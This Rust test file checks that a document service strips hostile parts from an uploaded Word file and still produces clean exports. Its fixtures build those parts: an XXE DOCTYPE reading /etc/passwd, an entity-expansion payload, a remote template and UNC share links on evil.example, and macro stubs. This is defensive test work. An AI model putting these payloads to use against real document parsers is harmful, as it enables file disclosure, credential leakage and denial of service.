//! What an imported file's kept parts may carry into folio's files (issue 29): nothing
//! malformed, nothing with a DOCTYPE, no macro, no attached template, no frame, OLE link
//! or file-share reference, no relationship to a part the file lacks. Each is left out
//! with a warning at import; the exports open in python-docx and LibreOffice.

use std::collections::BTreeSet;

use serde_json::Value;

use crate::helpers::{TestApp, libreoffice_convert, problem, python_docx, zip_entry};
use crate::import::{W, import, zip_of};

const R: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const REL: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const PKG_RELS: &str = "http://schemas.openxmlformats.org/package/2006/relationships";

fn rels(entries: &[(&str, &str, &str, bool)]) -> String {
    let mut out =
        format!(r#"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PKG_RELS}">"#);
    for (id, kind, target, external) in entries {
        let mode = if *external {
            r#" TargetMode="External""#
        } else {
            ""
        };
        out.push_str(&format!(
            r#"<Relationship Id="{id}" Type="{REL}/{kind}" Target="{target}"{mode}/>"#
        ));
    }
    out.push_str("</Relationships>");
    out
}

/// An inline picture of `alt` text whose blip names `rid`.
fn picture(rid: &str, alt: &str) -> String {
    format!(
        r#"<w:r><w:drawing><wp:inline><wp:extent cx="914400" cy="914400"/><wp:docPr id="1" name="P" descr="{alt}"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="0" name="p.png"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:embed="{rid}"/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>"#
    )
}

/// A Word file carrying every kind of hostile or broken kept part at once.
fn hostile_package() -> Vec<u8> {
    let document = format!(
        r#"<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="{W}" xmlns:r="{R}" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><w:body>
<w:p><w:r><w:t>Intro</w:t></w:r></w:p>
<w:p><w:r><w:t>Linked: </w:t></w:r><w:r><w:object><o:OLEObject Type="Link" ProgID="Excel.Sheet.12" ShapeID="s1" r:id="rIdOle" UpdateMode="Always"><o:LinkType>EnhancedMetaFile</o:LinkType></o:OLEObject></w:object></w:r></w:p>
<w:p><w:r><w:t>Missing: </w:t></w:r>{missing}</w:p>
<w:p><w:r><w:t>Escaping: </w:t></w:r>{passwd}</w:p>
<w:p><w:r><w:t>Shared: </w:t></w:r>{unc}</w:p>
<w:sdt><w:sdtContent><w:p><w:r><w:t>Embedded </w:t></w:r><w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" ShapeID="s2" r:id="rIdEmb"/></w:object></w:r></w:p></w:sdtContent></w:sdt>
<w:p><w:r><w:t>End</w:t></w:r></w:p>
</w:body></w:document>"#,
        missing = picture("rIdMiss", "Chart of sales"),
        passwd = picture("rIdPass", "Passwords"),
        unc = picture("rIdUnc", "Logo").replace("r:embed=", "r:link="),
    );
    let main_rels = rels(&[
        ("rIdS", "settings", "settings.xml", false),
        ("rIdW", "webSettings", "webSettings.xml", false),
        ("rIdF", "footnotes", "footnotes.xml", false),
        ("rIdC", "comments", "comments.xml", false),
        ("rIdX", "customXml", "../customXml/item1.xml", false),
        ("rIdOle", "oleObject", "file:///C:/secret/budget.xlsx", true),
        ("rIdMiss", "image", "media/missing.png", false),
        ("rIdPass", "image", "/etc/passwd", false),
        ("rIdEmb", "oleObject", "embeddings/oleObject1.bin", false),
        ("rIdUnc", "image", "\\\\evil.example\\share\\logo.png", true),
    ]);
    let settings = format!(
        r#"<?xml version="1.0" encoding="UTF-8"?><w:settings xmlns:w="{W}" xmlns:r="{R}"><w:attachedTemplate r:id="rIdT"/><w:defaultTabStop w:val="720"/></w:settings>"#
    );
    let settings_rels = rels(&[(
        "rIdT",
        "attachedTemplate",
        "http://evil.example/template.dotm",
        true,
    )]);
    let web = format!(
        r#"<?xml version="1.0" encoding="UTF-8"?><w:webSettings xmlns:w="{W}" xmlns:r="{R}"><w:frameset><w:frame><w:sourceFileName r:id="rIdFr"/></w:frame></w:frameset></w:webSettings>"#
    );
    let web_rels = rels(&[(
        "rIdFr",
        "frame",
        "\\\\evil.example\\share\\frame.docx",
        true,
    )]);
    // Malformed: an undeclared prefix.
    let footnotes = format!(
        r#"<?xml version="1.0" encoding="UTF-8"?><w:footnotes xmlns:w="{W}"><w:footnote w:id="0"><x:p/></w:footnote></w:footnotes>"#
    );
    // A DOCTYPE with an external entity.
    let comments = format!(
        r#"<?xml version="1.0"?><!DOCTYPE c [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:comments xmlns:w="{W}"><w:comment w:id="0"><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:comment></w:comments>"#
    );
    // Entity expansion.
    let custom = r#"<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><root>&b;</root>"#;
    let embedding_rels = rels(&[("rIdV", "vbaProject", "../vbaProject.bin", false)]);
    let types = r#"<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/><Override PartName="/word/webSettings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.webSettings+xml"/><Override PartName="/word/footnotes.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml"/><Override PartName="/word/comments.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.comments+xml"/><Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>"#;
    let root_rels = rels(&[("rId1", "officeDocument", "word/document.xml", false)]);
    zip_of(&[
        ("[Content_Types].xml", types.as_bytes()),
        ("_rels/.rels", root_rels.as_bytes()),
        ("word/document.xml", document.as_bytes()),
        ("word/_rels/document.xml.rels", main_rels.as_bytes()),
        ("word/settings.xml", settings.as_bytes()),
        ("word/_rels/settings.xml.rels", settings_rels.as_bytes()),
        ("word/webSettings.xml", web.as_bytes()),
        ("word/_rels/webSettings.xml.rels", web_rels.as_bytes()),
        ("word/footnotes.xml", footnotes.as_bytes()),
        ("word/comments.xml", comments.as_bytes()),
        ("customXml/item1.xml", custom.as_bytes()),
        ("word/embeddings/oleObject1.bin", b"not really OLE"),
        (
            "word/embeddings/_rels/oleObject1.bin.rels",
            embedding_rels.as_bytes(),
        ),
        ("word/vbaProject.bin", b"Attribute VB_Name = \"Evil\""),
    ])
}

fn entries(docx: &[u8]) -> BTreeSet<String> {
    let zip = zip::ZipArchive::new(std::io::Cursor::new(docx)).unwrap();
    zip.file_names().map(str::to_string).collect()
}

/// Everything in every entry, as text.
fn all_text(docx: &[u8]) -> String {
    entries(docx)
        .iter()
        .map(|name| zip_entry(docx, name))
        .collect::<Vec<_>>()
        .join("\n")
}

async fn hostile_kept_parts_never_reach_an_export(app: TestApp) {
    // Arrange
    let file = hostile_package();

    // Act
    let response = import(&app, &file, "").await;
    let status = response.status();
    let answer: Value = response.json().await.unwrap();
    assert_eq!(status, 201, "{answer}");
    let id = answer["id"].as_str().unwrap();
    let docx = app
        .get_bytes(&format!("/v1/documents/{id}/docx?min_version=1"))
        .await;
    let text = app
        .get_text(&format!("/v1/documents/{id}/text?min_version=1"))
        .await;

    // Assert: each is named among the warnings…
    let kinds: BTreeSet<&str> = answer["warnings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|w| w["kind"].as_str().unwrap())
        .collect();
    for kind in [
        "dropped_attached_template",
        "dropped_external_frame",
        "dropped_file_share_target",
        "dropped_ole_link",
        "dropped_malformed_part",
        "dropped_missing_part",
        "dropped_macros",
    ] {
        assert!(kinds.contains(kind), "{kind} in {kinds:?}");
    }
    // …and absent from every part of the export.
    let names = entries(&docx);
    let everything = all_text(&docx);
    for absent in [
        "evil.example",
        "attachedTemplate",
        "budget.xlsx",
        "vbaProject",
        "etc/passwd",
        "missing.png",
        "DOCTYPE",
        "<x:p",
    ] {
        assert!(
            !everything.contains(absent),
            "{absent} in the export: {names:?}"
        );
    }
    assert!(!names.iter().any(|n| n.contains("vbaProject")), "{names:?}");
    assert!(!names.contains("customXml/item1.xml"), "{names:?}");
    // The allowed embedding stays; its relationships part no longer names the macros.
    assert!(
        names.contains("word/embeddings/oleObject1.bin"),
        "{names:?}"
    );
    // Pictures that cannot be shown are their alt text; the rest of the text is kept.
    for shown in [
        "Intro",
        "Linked:",
        "Chart of sales",
        "Passwords",
        "Logo",
        "Embedded",
        "End",
    ] {
        assert!(text.contains(shown), "{shown} in {text:?}");
    }
    python_docx(&docx);
    if let Some(converted) = libreoffice_convert(&docx, "txt:Text", "txt") {
        assert!(converted.contains("Chart of sales"), "{converted}");
    }
    // The original is served as uploaded.
    let original = app.get_bytes(&format!("/v1/documents/{id}/original")).await;
    assert_eq!(original, file);
}

in_both_deployments!(hostile_kept_parts_never_reach_an_export);

/// A macro-enabled upload imports with a warning; folio's files of it are plain .docx
/// without the macros; `/original` gives it back as what it is.
#[tokio::test]
async fn a_macro_enabled_file_is_served_as_docx_and_its_original_as_docm() {
    let app = crate::helpers::spawn_app().await;
    let document = format!(
        r#"<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>Macros inside</w:t></w:r></w:p></w:body></w:document>"#
    );
    let types = r#"<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/><Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>"#;
    let root_rels = rels(&[("rId1", "officeDocument", "word/document.xml", false)]);
    let main_rels = format!(
        r#"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PKG_RELS}"><Relationship Id="rIdV" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>"#
    );
    let file = zip_of(&[
        ("[Content_Types].xml", types.as_bytes()),
        ("_rels/.rels", root_rels.as_bytes()),
        ("word/document.xml", document.as_bytes()),
        ("word/_rels/document.xml.rels", main_rels.as_bytes()),
        ("word/vbaProject.bin", b"macro bytes"),
    ]);
    let response = import(&app, &file, "").await;
    assert_eq!(response.status(), 201);
    let answer: Value = response.json().await.unwrap();
    assert!(
        answer["warnings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|w| w["kind"] == "macro_enabled"),
        "{answer}"
    );
    let id = answer["id"].as_str().unwrap();
    let docx = app
        .get_bytes(&format!("/v1/documents/{id}/docx?min_version=1"))
        .await;
    assert!(!entries(&docx).iter().any(|n| n.contains("vbaProject")));
    assert!(!all_text(&docx).contains("macroEnabled"));
    python_docx(&docx);
    let original = app.get(&format!("/v1/documents/{id}/original")).await;
    assert_eq!(original.status(), 200);
    let headers = original.headers().clone();
    assert_eq!(
        headers["content-type"],
        "application/vnd.ms-word.document.macroEnabled.12"
    );
    assert!(
        headers["content-disposition"]
            .to_str()
            .unwrap()
            .ends_with(".docm\""),
        "{headers:?}"
    );
    assert_eq!(original.bytes().await.unwrap().to_vec(), file);
    // An unknown document is still a 404 problem.
    problem(app.get("/v1/documents/nope/original").await, 404).await;
}
